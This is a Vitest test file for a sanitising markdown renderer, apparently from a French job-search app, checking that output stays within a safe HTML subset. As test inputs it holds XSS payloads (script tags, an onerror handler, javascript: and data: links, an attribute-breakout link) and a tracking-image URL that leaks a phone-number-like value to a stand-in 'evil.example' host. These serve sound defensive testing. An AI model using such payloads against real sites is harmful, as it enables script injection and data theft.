import { describe, expect, it } from "vitest";
import { renderMarkdown } from "./markdown.ts";

describe("sanitised markdown", () => {
  it("renders the subset: paragraphs, headings from h3, lists, quotes, code, emphasis, links", () => {
    const html = renderMarkdown(
      "# Plan\n\nÉtape **un** et *deux*.\nLigne 2\n\n- CV\n- Lettre\n\n1. Appeler\n2. Relancer\n\n> Courage\n\n```\nif (a < b) {}\n```\n\nVoir [France Travail](https://www.francetravail.fr/?a=1&b=2) et `npm test`.",
    );
    expect(html).toBe(
      [
        "<h3>Plan</h3>",
        "<p>Étape <strong>un</strong> et <em>deux</em>.<br>Ligne 2</p>",
        "<ul><li>CV</li><li>Lettre</li></ul>",
        "<ol><li>Appeler</li><li>Relancer</li></ol>",
        "<blockquote><p>Courage</p></blockquote>",
        "<pre><code>if (a &lt; b) {}</code></pre>",
        '<p>Voir <a href="https://www.francetravail.fr/?a=1&amp;b=2" rel="nofollow noopener noreferrer">France Travail</a> et <code>npm test</code>.</p>',
      ].join("\n"),
    );
  });

  it("shows raw HTML as text: no script, no event handler, no iframe", () => {
    const html = renderMarkdown(
      '<script>alert(1)</script> <img src=x onerror="alert(1)"> <iframe src="//evil">',
    );
    expect(html).not.toMatch(/<(?!\/?p>)/u);
    expect(html).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
  });

  it("drops links that are not http(s) or mailto, and never loads an image", () => {
    const html = renderMarkdown(
      "[clic](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) ![pixel](https://evil.example/leak?d=0612345678) [ok](mailto:lea@exemple.fr)",
    );
    expect(html).not.toContain("javascript:");
    expect(html).not.toContain("data:text");
    expect(html).not.toContain("evil.example");
    expect(html).not.toContain("<img");
    expect(html).toContain("pixel");
    expect(html).toContain('<a href="mailto:lea@exemple.fr"');
  });

  it("cannot break out of a link's attribute", () => {
    const html = renderMarkdown(
      '[x](https://a.example/"onmouseover="alert(1)) [y](https://b.example/?q=<b>)',
    );
    expect(html).not.toContain("onmouseover=");
    expect(html).not.toMatch(/href="[^"]*[<>]/u);
  });
});
